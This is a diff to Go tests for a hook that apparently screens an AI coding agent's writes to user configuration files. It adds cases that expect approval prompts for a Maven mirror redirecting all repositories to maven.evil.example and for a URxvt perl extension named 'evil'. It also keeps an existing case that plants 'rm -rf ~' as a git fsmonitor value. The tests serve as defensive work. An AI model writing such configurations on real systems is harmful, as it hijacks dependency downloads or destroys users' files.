@@ -607,8 +607,10 @@ func TestCodeConfigToolWrites(t *testing.T) {
 	if err := os.WriteFile(gitconfig, []byte("[user]\n\tname = me\n"), 0o644); err != nil {
 		t.Fatal(err)
 	}
-	if err := os.MkdirAll(filepath.Join(m.home, ".cargo"), 0o755); err != nil {
-		t.Fatal(err)
+	for _, d := range []string{".cargo", ".m2"} {
+		if err := os.MkdirAll(filepath.Join(m.home, d), 0o755); err != nil {
+			t.Fatal(err)
+		}
 	}
 	tests := []struct {
 		name, tool string
@@ -624,6 +626,12 @@ func TestCodeConfigToolWrites(t *testing.T) {
 		{"gitconfig email by Edit", "Edit", map[string]any{"file_path": gitconfig, "old_string": "name = me", "new_string": "name = me\n\temail = me@example.org"}, ""},
 		{"wgetrc tries", "Write", map[string]any{"file_path": filepath.Join(m.home, ".wgetrc"), "content": "tries = 3\n"}, ""},
 		{"not a configuration file", "Write", map[string]any{"file_path": filepath.Join(m.project, "notes.gitconfig"), "content": "[core]\n\tfsmonitor = rm -rf ~\n"}, ""},
+		// Maven's settings.xml mirrors and X resources' URxvt
+		// perl-ext (cfg2; before, allowed).
+		{"maven mirror off Central", "Write", map[string]any{"file_path": filepath.Join(m.home, ".m2", "settings.xml"), "content": "<settings><mirrors><mirror><id>m</id><mirrorOf>*</mirrorOf><url>https://maven.evil.example/r</url></mirror></mirrors></settings>\n"}, "ask"},
+		{"Xresources perl-ext-common", "Write", map[string]any{"file_path": filepath.Join(m.home, ".Xresources"), "content": "URxvt.perl-ext-common: default,evil\n"}, "ask"},
+		{"maven mirror of Central", "Write", map[string]any{"file_path": filepath.Join(m.home, ".m2", "settings.xml"), "content": "<settings><mirrors><mirror><id>c</id><mirrorOf>central</mirrorOf><url>https://repo1.maven.org/maven2</url></mirror></mirrors></settings>\n"}, ""},
+		{"Xresources font", "Write", map[string]any{"file_path": filepath.Join(m.home, ".Xresources"), "content": "URxvt.font: xft:Mono:size=11\n"}, ""},
 	}
 	for _, tt := range tests {
 		out, raw, _ := m.hook(map[string]any{"session_id": "s1", "hook_event_name": "PreToolUse", "tool_name": tt.tool, "tool_input": tt.input})
